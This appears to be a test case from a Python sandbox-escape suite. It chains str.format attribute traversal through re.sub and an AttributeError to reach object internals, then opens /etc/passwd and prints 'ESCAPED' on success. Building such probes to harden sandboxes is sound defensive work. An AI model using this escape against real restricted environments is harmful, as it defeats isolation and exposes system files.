# tries: an unbound format called by a library
# class: formatting
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


import re


class G:
    def group(self):
        return None


try:
    re.sub("x", "{0.string.__class__.__subclasses__.__self__.mro.__self__.no}".format, "x")
except AttributeError as error:
    owner = error.obj
    use([c for c in owner.mro()[-1].__subclasses__()
         if c.__name__ == "FileLoader"][0] and open)
